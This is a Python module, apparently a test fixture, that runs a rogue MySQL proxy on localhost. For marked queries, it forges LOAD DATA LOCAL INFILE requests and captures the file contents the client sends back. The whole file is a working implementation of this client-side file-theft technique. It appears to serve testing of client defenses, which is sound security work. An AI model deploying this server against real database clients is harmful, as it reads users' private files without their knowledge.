"""A MySQL server that asks for files: a forwarder in front of a real one, which answers marked statements itself.

A statement whose text has `mark` never reaches the server. The forwarder asks for `wanted` as if the statement were LOAD
DATA LOCAL INFILE, keeps what it is given (`given`, one entry for each such statement), and ends with an error.
"""
import socket
import struct
import threading

_ERROR = b"\xff" + struct.pack("<H", 1105) + b"#HY000" + b"the rogue's error"


class Rogue:
    def __init__(self, target, mark, wanted):
        self.host = "127.0.0.1"
        self._target, self._mark, self._wanted = target, mark, wanted
        self._listener = socket.create_server((self.host, 0))
        self.port = self._listener.getsockname()[1]
        self._open = []
        self.given = []
        threading.Thread(target=self._accept, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._listener.close()
        for sock in self._open:
            sock.close()

    def _accept(self):
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            server = socket.create_connection((self._target.host, self._target.port))
            self._open += [client, server]
            threading.Thread(target=self._back, args=(server, client), daemon=True).start()
            threading.Thread(target=self._forth, args=(client, server), daemon=True).start()

    @staticmethod
    def _back(server, client):
        try:
            while data := server.recv(65536):
                client.sendall(data)
        except OSError:
            pass
        client.close()

    def _forth(self, client, server):
        try:
            while True:
                header, payload = _packet(client)
                if header[3] == 0 and self._mark in payload:
                    self.given.append(self._ask(client))
                    continue
                server.sendall(header + payload)
        except (OSError, EOFError):
            server.close()

    def _ask(self, client):
        """What comes for the file that was asked for."""
        _send(client, 1, b"\xfb" + self._wanted)
        content = b""
        while True:
            header, payload = _packet(client)
            if not payload:
                _send(client, header[3] + 1, _ERROR)
                return content
            content += payload


def _send(sock, number, payload):
    sock.sendall(struct.pack("<I", len(payload))[:3] + bytes([number & 255]) + payload)


def _packet(sock):
    header = _take(sock, 4)
    return header, _take(sock, int.from_bytes(header[:3], "little"))


def _take(sock, size):
    taken = b""
    while len(taken) < size:
        more = sock.recv(size - len(taken))
        if not more:
            raise EOFError
        taken += more
    return taken
